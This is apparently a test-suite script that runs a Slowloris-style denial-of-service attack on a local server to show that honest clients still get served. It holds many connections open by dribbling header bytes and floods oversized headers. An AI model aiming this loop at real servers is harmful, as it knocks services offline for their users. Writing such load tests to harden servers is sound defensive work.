"""Hold slow connections open: ``python -m tests.proofs.slow_attack PORT COUNT``, a process.

So what honest clients wait for is the mirror, and not the attackers' own loop.  It says so when
every attacker has been there once, and at the end of its input how many connections it opened.
"""

from __future__ import annotations

import asyncio
import contextlib
import resource
import sys
from typing import Final

# Seconds after which who was cut off comes again.
PAUSE: Final = 5.0
HEAD: Final = b"GET / HTTP/1.1\r\nHost: a.test\r\n"
FLOOD: Final = HEAD + b"X-Flood: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n" * 20_000


class Attack:
    """Connections that say a byte of a head now and then, and come again when they are cut."""

    def __init__(self, number: int) -> None:
        self._number = number
        self.opened = 0

    async def one(self) -> None:
        """Hold one connection open, again and again."""
        while True:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", self._number)
                self.opened += 1
                try:
                    writer.write(HEAD)
                    while not writer.is_closing():
                        await asyncio.sleep(1)
                        writer.write(b"X")
                        await writer.drain()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(PAUSE)

    async def flood(self) -> None:
        """Send heads without an end, again and again."""
        while True:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", self._number)
                try:
                    writer.write(FLOOD)
                    await writer.drain()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0.1)


async def attack(number: int, count: int) -> None:
    """Attack until the input ends."""
    attack = Attack(number)
    tasks = [asyncio.create_task(attack.one()) for _ in range(count)]
    tasks += [asyncio.create_task(attack.flood()) for _ in range(4)]
    async with asyncio.timeout(120):
        while attack.opened < count:  # noqa: ASYNC110 - counts of many tasks
            await asyncio.sleep(0.05)
    sys.stdout.write("there\n")
    sys.stdout.flush()
    async with asyncio.timeout(300):
        await asyncio.to_thread(sys.stdin.read)
    sys.stdout.write(f"{attack.opened}\n")
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(attack(int(sys.argv[1]), int(sys.argv[2])))
